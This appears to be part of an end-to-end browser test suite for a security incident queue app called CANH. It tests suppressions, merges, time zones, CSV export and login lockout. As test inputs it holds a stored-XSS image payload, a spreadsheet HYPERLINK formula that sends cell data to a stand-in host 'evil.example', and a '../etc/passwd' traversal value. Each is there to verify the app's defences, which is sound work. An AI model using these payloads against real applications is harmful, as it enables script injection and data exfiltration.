  const evs = [alertEvent('198.18.1.1', 9199101, 'CANH test: workflow A', { dest_ip: '10.20.1.31' }),
    alertEvent('198.18.1.1', 9199102, 'CANH test: workflow B', { dest_ip: '10.20.1.32' }),
    alertEvent('198.18.1.2', 9199103, 'CANH test: workflow C', { dest_ip: '10.20.1.33' })];
  assert.equal((await postEvents(evs)).status, 200);
  return { A: await incidentOf('198.18.1.1', '10.20.1.31'), B: await incidentOf('198.18.1.1', '10.20.1.32'),
    C: await incidentOf('198.18.1.2', '10.20.1.33') };
}

let wf = null;

test('bulk: acknowledge two incidents and assign one from the queue', async () => {
  wf = await workflowIncidents();
  const { ctx, page } = await login('analyst1');
  await page.goto(`${BASE}/#/queue?status=new&q=${encodeURIComponent('198.18.1.1')}`);
  await page.waitForSelector(`#rows tr[data-id="${wf.A.id}"]`);
  await page.waitForSelector(`#rows tr[data-id="${wf.B.id}"]`);
  await page.check(`#rows tr[data-id="${wf.A.id}"] input.sel`);
  await page.check(`#rows tr[data-id="${wf.B.id}"] input.sel`);
  await page.click('#bulk-ack');
  for (let i = 0; i < 50 && (await apiGet(`/incidents/${wf.B.id}`)).status !== 'acknowledged'; i++) await page.waitForTimeout(100);
  assert.equal((await apiGet(`/incidents/${wf.A.id}`)).status, 'acknowledged');
  assert.equal((await apiGet(`/incidents/${wf.B.id}`)).status, 'acknowledged');
  await page.goto(`${BASE}/#/queue?status=acknowledged&q=${encodeURIComponent('198.18.1.1')}`);
  await page.waitForSelector(`#rows tr[data-id="${wf.A.id}"]`);
  await page.check(`#rows tr[data-id="${wf.A.id}"] input.sel`);
  await page.fill('#bulk-assignee', 'analyst1');
  await page.click('#bulk-assign');
  await page.waitForSelector(`#rows tr[data-id="${wf.A.id}"] >> text=analyst1`);
  assert.equal((await apiGet(`/incidents/${wf.A.id}`)).assignee, 'analyst1');
  await ctx.close();
});

test('move an alert to another incident, merge one incident into another', async () => {
  const { ctx, page } = await login('responder1');
  await setLang(page, 'en');
  await openIncident(page, wf.A.id);
  const evId = await page.$eval('#timeline li.ev', (li) => li.dataset.ev);
  await page.click('#timeline .ev-move');
  await page.fill('#move-dlg input[name=target]', String(wf.B.id));
  await page.click('#move-dlg button.primary');
  await page.waitForFunction(() => !document.querySelector('#move-dlg'));
  let b = null;
  for (let i = 0; i < 50; i++) {
    b = await apiGet(`/incidents/${wf.B.id}`);
    if (b.events.some((e) => e.id === evId)) break;
    await page.waitForTimeout(100);
  }
  assert.ok(b.events.some((e) => e.id === evId), `event ${evId} now in #${wf.B.id}`);
  assert.ok(b.audit.some((a) => a.action === 'event_move' && a.actor === 'responder1'));

  await openIncident(page, wf.C.id);
  await page.click('#act-merge');
  await page.fill('#merge-dlg input[name=target]', String(wf.B.id));
  await page.click('#merge-dlg button.primary');
  await page.waitForSelector('.inc-title .st-resolved');
  const c = await apiGet(`/incidents/${wf.C.id}`);
  assert.equal(c.status, 'resolved');
  assert.equal(c.disposition, 'duplicate');
  assert.ok(c.audit.some((a) => a.action === 'merge'));
  assert.ok((await apiGet(`/incidents/${wf.B.id}`)).audit.some((a) => a.action === 'merge'));
  assert.match(await page.textContent('#audit'), new RegExp(`#${wf.C.id} → #${wf.B.id}`));
  await ctx.close();
});

test('suppress from an incident: later hits of that address open nothing', async () => {
  const { ctx, page } = await login('analyst1');
  await openIncident(page, wf.B.id);
  // search links from portal.search-url, one per address
  const hrefs = await page.$$eval('#es-links a', (as) => as.map((a) => a.href));
  assert.ok(hrefs.some((h) => h === 'https://search.example.gov.vn/app/discover?q=198.18.1.1'), hrefs.join(' '));
  await page.click('#act-suppress');
  await page.check('#suppress-dlg input[name=what][value=address]');
  await page.selectOption('#suppress-dlg select[name=address]', '198.18.1.1');
  await page.fill('#suppress-dlg textarea[name=reason]', 'Authorised vulnerability scanner of the data centre');
  await page.click('#suppress-dlg button.primary');
  await page.waitForFunction(() => !document.querySelector('#suppress-dlg'));
  let sup = null;
  for (let i = 0; i < 50 && !sup; i++) {
    const r = await apiGet('/suppressions');
    sup = (Array.isArray(r) ? r : r.suppressions || []).find((s) => s.address === '198.18.1.1');
    if (!sup) await page.waitForTimeout(100);
  }
  assert.ok(sup, 'suppression stored');
  assert.equal(sup.created_by, 'analyst1');
  assert.ok(!sup.rule_id, 'address only');
  assert.ok(new Date(sup.expires) > Date.now() + 23 * 3600e3);
  assert.equal((await postEvents([alertEvent('198.18.1.1', 9199104, 'CANH test: suppressed', { dest_ip: '10.20.1.34' })])).status, 200);
  await page.waitForTimeout(1000);
  assert.equal((await incidentsBy(byPair('198.18.1.1', '10.20.1.34'))).length, 0);
  const r2 = await apiGet('/suppressions');
  const after = (Array.isArray(r2) ? r2 : r2.suppressions || []).find((s) => s.id === sup.id);
  assert.ok(after.hits >= 1, `hits ${after.hits}`);
  await ctx.close();
});

test('suppressions page: listed with rule, address, reason, expiry, author, hits; analyst removes one, viewer cannot', async () => {
  const list = async () => { const r = await apiGet('/suppressions'); return Array.isArray(r) ? r : r.suppressions || []; };
  const mine = (await list()).find((s) => s.address === '198.18.1.1');
  assert.ok(mine, 'the suppression of the previous test');
  // a second one by rule only, with a payload in its reason
  const reason2 = 'Noisy test rule <img src=x onerror="window.__xss=7">';
  const exp2 = new Date(Date.now() + 3 * 86400e3).toISOString();
  const c2 = await adminPost('/suppressions', { rule_id: 'fc4fea5c-0280-433a-9be0-b621b6862f5e', reason: reason2, expires: exp2 });
  assert.equal(c2.status, 201, JSON.stringify(c2.body));
  const en = JSON.parse(fs.readFileSync(path.join(STATIC, 'i18n/en.json'), 'utf8'));

  const v = await login('viewer1');
  await setLang(v.page, 'en');
  await v.page.click('.nav a[data-route="suppressions"]');
  await v.page.waitForSelector(`#sup-rows tr[data-id="${mine.id}"]`);
  assert.equal(await v.page.$('.sup-remove'), null, 'a viewer gets no remove button');
  const forged = await v.page.evaluate(async (id) => {
    const who = await (await fetch('/api/v1/whoami')).json();
    return (await fetch(`/api/v1/suppressions/${id}`, { method: 'DELETE', headers: { 'X-CSRF-Token': who.csrf } })).status;
  }, mine.id);
  assert.equal(forged, 403);
  await v.ctx.close();

  const { ctx, page } = await login('analyst1');
  await setLang(page, 'en');
  await page.goto(`${BASE}/#/suppressions`);
  const row = `#sup-rows tr[data-id="${mine.id}"]`;
  await page.waitForSelector(row);
  assert.equal(await page.textContent('#suppressions h1'), en['supp.list_title']);
  assert.equal(await page.textContent(`${row} .sup-addr`), '198.18.1.1');
  assert.equal(await page.textContent(`${row} .sup-reason`), 'Authorised vulnerability scanner of the data centre');
  assert.equal(await page.textContent(`${row} .sup-rule`), en['supp.any_rule']);
  assert.ok((await page.textContent(row)).includes('analyst1'));
  assert.equal(Number(await page.textContent(`${row} .sup-hits`)), mine.hits);
  assert.ok(mine.hits >= 1);
  assert.equal(await page.textContent(`${row} .sup-expires span`), `${plus7(mine.expires)} (UTC+7)`);
  assert.equal(await page.getAttribute(`${row} a`, 'href'), `#/incident/${mine.incident}`);
  const row2 = `#sup-rows tr[data-id="${c2.body.id}"]`;
  assert.equal(await page.textContent(`${row2} .sup-reason`), reason2, 'the reason is text');
  assert.equal(await page.textContent(`${row2} .sup-addr`), en['supp.any_address']);
  assert.ok((await page.textContent(`${row2} .sup-rule`)).includes('fc4fea5c-0280-433a-9be0-b621b6862f5e'));
  assert.equal(await page.evaluate(() => window.__xss || document.querySelectorAll('main img').length), 0);
  await page.screenshot({ path: path.join(SHOTS, 'suppressions.png') });
  // remove the address suppression
  await page.click(`${row} .sup-remove`);
  await page.waitForSelector('#sup-remove-dlg');
  await page.click('#sup-remove-ok');
  await page.waitForSelector(row, { state: 'detached' });
  assert.ok(await page.isVisible(row2));
  assert.equal((await list()).some((s) => s.id === mine.id), false, 'gone from the API');
  const inc = await apiGet(`/incidents/${mine.incident}`);
  assert.ok(inc.audit.some((a) => a.action === 'suppression_delete' && a.actor === 'analyst1'), JSON.stringify(inc.audit.map((a) => a.action)));
  // the rule suppression would fold every severity-1 alert (the scale test's
  // too): removed through the API before the next hit
  assert.equal((await fetch(`${BASE}/api/v1/suppressions/${c2.body.id}`, { method: 'DELETE',
    headers: { Authorization: `Bearer ${creds.CANH_ADMIN_TOKEN}` } })).status, 204);
  // the address opens incidents again
  assert.equal((await postEvents([alertEvent('198.18.1.1', 9199105, 'CANH test: after the suppression', { dest_ip: '10.20.1.35' })])).status, 200);
  await incidentOf('198.18.1.1', '10.20.1.35'); // a hit after the removal opens an incident
  assert.deepEqual(page.errors, []);
  await ctx.close();
});

test('scale: 2,000 more incidents; pages stay quick and a poll keeps unchanged rows', async () => {
  const N = 2000;
  const evs = [];
  for (let i = 0; i < N; i++) evs.push(alertEvent(`198.18.${2 + (i >> 8)}.${i & 255}`, 9300000 + i, `CANH scale test ${i}`));
  const t0 = Date.now();
  assert.equal((await postEvents(evs)).status, 200);
  let total = 0;
  for (let i = 0; i < 300 && total < N; i++) {
    total = (await apiGet('/incidents?limit=1&q=' + encodeURIComponent('198.18.'))).total;
    if (total < N) await new Promise((ok) => setTimeout(ok, 100));
  }
  assert.ok(total >= N, `${total} incidents`);
  const ingestMs = Date.now() - t0;
  const { ctx, page } = await login('analyst1');
  const t1 = Date.now();
  await page.goto(`${BASE}/#/queue?sort=-id`);
  await page.waitForFunction(() => document.querySelectorAll('#rows tr[data-id]').length === 50);
  const firstMs = Date.now() - t1;
  assert.ok(firstMs < 3000, `first page in ${firstMs} ms`);
  // last page
  const all = (await apiGet('/incidents?limit=1')).total;
  await page.goto(`${BASE}/#/queue?sort=-id&offset=${Math.floor((all - 1) / 50) * 50}`);
  await page.waitForFunction((n) => document.querySelectorAll('#rows tr[data-id]').length === n, all % 50 || 50);
  await page.goto(`${BASE}/#/queue?sort=-id`);
  await page.waitForFunction(() => document.querySelectorAll('#rows tr[data-id]').length === 50);
  await page.evaluate(() => { for (const tr of document.querySelectorAll('#rows tr[data-id]')) tr.dataset.keep = '1'; });
  assert.equal((await postEvents([alertEvent('198.18.99.1', 9399999, 'CANH scale test: one more')])).status, 200);
  await page.waitForFunction(() => document.querySelector('#rows tr[data-id]').textContent.includes('198.18.99.1'), null, { timeout: 15000 });
  const kept = await page.$$eval('#rows tr[data-id]', (trs) => trs.filter((t) => t.dataset.keep === '1').length);
  assert.equal(kept, 49, 'only the new row was built; the other 49 are the same nodes');
  console.log(`scale: ${N} incidents ingested and correlated in ${ingestMs} ms; first queue page in ${firstMs} ms`);
  await ctx.close();
});

// dd/mm/yyyy hh:mm:ss of an RFC 3339 time shifted by h hours.
function shifted(iso, h) {
  const d = new Date(new Date(iso).getTime() + h * 3600e3);
  const p = (n) => String(n).padStart(2, '0');
  return `${p(d.getUTCDate())}/${p(d.getUTCMonth() + 1)}/${d.getUTCFullYear()} ${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())}`;
}

test('time zone: picked in the header, applied at once, remembered; unknown names refused', async () => {
  // after the scale test: look the port scan up by its address
  const scan = (await apiGet('/incidents?limit=100&address=198.51.100.23&status=new,acknowledged,investigating,resolved,false_positive'))
    .incidents.find((i) => (i.group_fields || {}).src_ip === '198.51.100.23');
  const en = JSON.parse(fs.readFileSync(path.join(STATIC, 'i18n/en.json'), 'utf8'));
  const { ctx, page } = await login('admin');
  await setLang(page, 'en');
  await openIncident(page, scan.id);
  assert.equal(await page.textContent('#tz-label'), 'UTC+7', 'default Asia/Ho_Chi_Minh');
  assert.equal(await page.textContent('#first-seen'), `${shifted(scan.first_seen, 7)} (UTC+7)`);
  await page.evaluate(() => { window.__marker = 1; });
  const whoTz = () => page.evaluate(async () => (await (await fetch('/api/v1/whoami')).json()).tz);
  const pick = async (zone, hours, label) => {
    await page.click('#tz-btn');
    await page.waitForSelector('#tz-dlg');
    if (zone.list) await page.check(`#tz-dlg input[name=tz][value="${zone.list}"]`);
    else await page.fill('#tz-other', zone.text);
    await page.click('#tz-save');
    await page.waitForSelector('#tz-dlg', { state: 'detached' });
    const want = `${shifted(scan.first_seen, hours)} (${label})`;
    await page.waitForFunction((w) => { const e = document.getElementById('first-seen'); return e && e.textContent === w; }, want);
    assert.equal(await page.textContent('#tz-label'), label);
    assert.equal(await whoTz(), zone.list || zone.text);
  };
  await pick({ list: 'UTC' }, 0, 'UTC+0');
  await pick({ list: 'Asia/Singapore' }, 8, 'UTC+8');
  await pick({ text: 'Europe/Paris' }, 1, 'UTC+1'); // free text (November: CET)
  assert.equal(await page.evaluate(() => window.__marker), 1, 'applied without a reload');
  // the queue's time column follows too
  await page.goto(`${BASE}/#/queue`);
  await page.waitForSelector('#rows tr[data-id]');
  assert.match(await page.getAttribute('#rows tr[data-id] td.c-time span', 'title'), /\(UTC\+1\)$/);
  // unknown names: refused (in the page, and by the server for a lower-case
  // name the browser's Intl may accept), nothing changes
  for (const bad of ['Mars/Olympus_Mons', 'europe/paris']) {
    await page.click('#tz-btn');
    await page.fill('#tz-other', bad);
    await page.click('#tz-save');
    await page.waitForFunction(() => document.getElementById('tz-err').textContent.length > 0);
    assert.equal(await page.textContent('#tz-err'), en['tz.invalid'].replace('{tz}', bad));
    assert.ok(await page.isVisible('#tz-dlg'));
    await page.click('#tz-dlg button.ghost');
    await page.waitForSelector('#tz-dlg', { state: 'detached' });
    assert.equal(await whoTz(), 'Europe/Paris');
  }
  const direct = await page.evaluate(async () => {
    const who = await (await fetch('/api/v1/whoami')).json();
    const put = async (tz) => (await fetch('/api/v1/me/prefs', { method: 'PUT',
      headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': who.csrf }, body: JSON.stringify({ tz }) })).status;
    return [await put('Mars/Olympus_Mons'), await put('europe/paris'), await put('../etc/passwd')];
  });
  assert.deepEqual(direct, [400, 400, 400]);
  await ctx.close();
  // remembered: a new session starts in Europe/Paris
  const again = await login('admin');
  assert.equal(await again.page.textContent('#tz-label'), 'UTC+1');
  await openIncident(again.page, scan.id);
  assert.equal(await again.page.textContent('#first-seen'), `${shifted(scan.first_seen, 1)} (UTC+1)`);
  // back to the default
  await again.page.click('#tz-btn');
  await again.page.check('#tz-dlg input[name=tz][value="Asia/Ho_Chi_Minh"]');
  await again.page.click('#tz-save');
  await again.page.waitForFunction(() => document.getElementById('tz-label').textContent === 'UTC+7');
  assert.deepEqual(again.page.errors, []);
  assert.deepEqual(page.errors, []);
  await again.ctx.close();
});

// RFC 4180 parse of an exported file (after its BOM): rows of cells.
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (q) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') q = false; else cell += c;
    } else if (c === '"' && cell === '') q = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell); rows.push(row); row = []; cell = ''; i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

// Click sel and read the file the page offers: [raw bytes, parsed rows].
async function exportFrom(page, sel) {
  const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 30000 }), page.click(sel)]);
  assert.match(dl.suggestedFilename(), /^canh-incident.*\.csv$/);
  const raw = fs.readFileSync(await dl.path());
  assert.deepEqual([...raw.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
  const text = raw.subarray(3).toString('utf8');
  assert.ok(text.endsWith('\r\n'), 'CRLF lines');
  return parseCsv(text);
}

// "2026-11-20 15:05:00": the export's time cell of a UTC time in UTC+7.
function csv7(iso) {
  const m = /^(\d{2})\/(\d{2})\/(\d{4}) (.*)$/.exec(plus7(iso));
  return `${m[3]}-${m[2]}-${m[1]} ${m[4]}`;
}

test('CSV exports: queue and timeline in the user\'s language and zone; formulas neutralised', async () => {
  const FORMULA_SRC = '198.18.0.77';
  const sig = '=HYPERLINK("http://evil.example/?"&A1,"click, here")';
  const r = await postEvents([alertEvent(FORMULA_SRC, 9199077, sig)]);
  assert.equal(r.status, 200, JSON.stringify(r.body));
  let formula = [];
  for (let i = 0; i < 50 && !formula.length; i++) {
    formula = (await apiGet(`/incidents?address=${FORMULA_SRC}&status=new,acknowledged,investigating,resolved,false_positive`)).incidents;
    if (!formula.length) await new Promise((ok) => setTimeout(ok, 100));
  }
  assert.equal(formula.length, 1, 'an incident for the crafted alert');
  const all = 'status=new,acknowledged,investigating,resolved,false_positive';
  const [scan] = (await apiGet(`/incidents?address=198.51.100.23&${all}`)).incidents
    .filter((i) => (i.group_fields || {}).src_ip === '198.51.100.23');
  assert.ok(scan, 'the port scan incident of the demo run');
  const { ctx, page } = await login('analyst1');
  for (const lang of ['vi', 'en']) {
    const cat = JSON.parse(fs.readFileSync(path.join(STATIC, 'i18n', `${lang}.json`), 'utf8'));
    await setLang(page, lang);
    // The queue: every incident of the "all" tab (several pages of the API).
    await page.goto(`${BASE}/#/queue`);
    await page.waitForSelector('#rows tr[data-id]');
    await page.click('.tab[data-status=""]');
    await page.waitForFunction(() => document.querySelector('.tab[data-status=""]').getAttribute('aria-selected') === 'true');
    assert.equal(await page.textContent('#export-csv'), cat['export.csv']);
    const api = await apiGet('/incidents?limit=1');
    const rows = await exportFrom(page, '#export-csv');
    const head = rows[0];
    assert.deepEqual(head, [cat['col.id'], cat['col.severity'], cat['col.title'], cat['col.status'], cat['field.disposition'],
      cat['field.rule'], cat['field.src'], cat['field.dest'], cat['field.sensors'], cat['col.events'],
      `${cat['col.first_seen']} (UTC+7)`, `${cat['col.last_seen']} (UTC+7)`, cat['col.assignee']], `${lang} header`);
    assert.equal(rows.length - 1, Math.min(api.total, 10000), `${lang}: every matching incident (API total ${api.total})`);
    assert.equal(new Set(rows.slice(1).map((x) => x[0])).size, rows.length - 1, 'no incident twice across pages');
    const sr = rows.find((x) => x[0] === String(scan.id));
    assert.ok(sr, `${lang}: the port scan #${scan.id} is exported`);
    const now = (await apiGet(`/incidents/${scan.id}`));
    assert.equal(sr[3], cat[`status.${now.status}`], `${lang} status`);
    assert.equal(sr[1], cat[`sev.${now.severity}`], `${lang} severity`);
    assert.equal(sr[2], lang === 'vi' ? (now.title_vi || now.title) : now.title);
    assert.equal(sr[10], csv7(now.first_seen), `${lang}: first seen +7 h (stored ${now.first_seen})`);
    if (now.disposition) assert.equal(sr[4], cat[`disp.${now.disposition}`]);
    // The incident's timeline, with the crafted signature.
    await openIncident(page, formula[0].id);
    const ev = await exportFrom(page, '#timeline-csv');
    assert.deepEqual(ev[0], [`${cat['export.col_time']} (UTC+7)`, cat['export.col_type'], cat['export.col_what'],
      cat['export.col_src'], cat['export.col_dest'], cat['export.col_details']], `${lang} timeline header`);
    const al = ev.find((x) => x[1] === 'alert');
    assert.ok(al, 'the alert is exported');
    assert.equal(al[2], `'${sig}`, 'a formula from the wire is prefixed with an apostrophe');
    assert.equal(al[0], '2026-11-20 15:05:00', 'event time 08:05 UTC in UTC+7');
    assert.match(al[3], new RegExp(`^${FORMULA_SRC.replace(/\./g, '\\.')}:\\d+$`));
    assert.equal(al[4], '10.20.1.30:80');
  }
  await ctx.close();
});

test('logout ends the session', async () => {
  const { ctx, page } = await login('viewer1');
  await page.click('#logout-btn');
  await page.waitForSelector('#login-form');
  assert.equal(await page.evaluate(async () => (await fetch('/api/v1/whoami')).status), 401);
  await page.reload();
  await page.waitForSelector('#login-form');
  assert.ok(await page.isHidden('#top'));
  await ctx.close();
});

// Last: it locks the admin account's password login for the lockout window.
test('lockout: repeated wrong passwords are refused with a wait time', async () => {
  const ctx = await browser.newContext();
  const page = await ctx.newPage();
  await page.goto(`${BASE}/`);
  const en = JSON.parse(fs.readFileSync(path.join(STATIC, 'i18n/en.json'), 'utf8'));
  await page.selectOption('#login-lang', 'en');
  await page.waitForFunction(() => document.documentElement.lang === 'en');
  let msg = '';
  for (let i = 0; i < 8 && !/min/.test(msg); i++) {
    await page.fill('#login-user', 'admin');
    await page.fill('#login-pass', `wrong-${i}`);
    await page.click('#login-btn');
    await page.waitForFunction(() => !document.getElementById('login-btn').disabled && document.getElementById('login-err').textContent);
    msg = await page.textContent('#login-err');
  }
  const re = new RegExp(`^${en['login.locked'].replace(/[.*+?^$()|[\]\\]/g, '\\$&').replace('{n}', '\\d+')}$`);
  assert.match(msg, re);
  // the right password is refused too while locked
  await page.fill('#login-pass', pw.admin);
  await page.click('#login-btn');
  await page.waitForFunction(() => !document.getElementById('login-btn').disabled);
  assert.match(await page.textContent('#login-err'), re);
  assert.ok(await page.isHidden('#top'));
  await ctx.close();
});
